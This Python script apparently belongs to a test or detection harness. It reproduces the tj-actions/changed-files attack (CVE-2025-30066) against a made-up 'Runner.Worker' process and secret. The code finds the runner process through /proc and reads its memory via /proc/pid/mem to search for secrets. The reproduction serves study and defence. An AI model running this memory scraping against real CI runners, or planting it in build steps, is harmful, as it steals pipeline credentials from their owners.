# SPDX-License-Identifier: Apache-2.0
"""The shape of the attack on tj-actions/changed-files (CVE-2025-30066): a step of a build finds the process that runs it by
its name, reads its maps, and dumps every readable region in search of secrets. The process and its secret are made up."""

import os
import sys

from ground_truth import SECRET, act, readable_regions, victim

NAME = b"Runner.Worker"


def find_process(name):
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as command_line:
                if command_line.read().split(b"\0")[0] == name:
                    yield int(entry)
        except OSError:
            continue  # gone in the meantime


with victim(NAME.decode()) as process:
    pid = next(found for found in find_process(NAME) if found == process.pid)
    with act("runner_secrets", pid, path=f"/proc/{pid}/mem", flags="O_RDONLY|O_CLOEXEC"):
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    found = False
    for start, end, _ in readable_regions(pid):
        try:
            memory.seek(start)
            found = SECRET in memory.read(end - start) or found
        except OSError:
            continue  # a page that cannot be read
    if not found:
        sys.exit("failed to find the made-up secret")
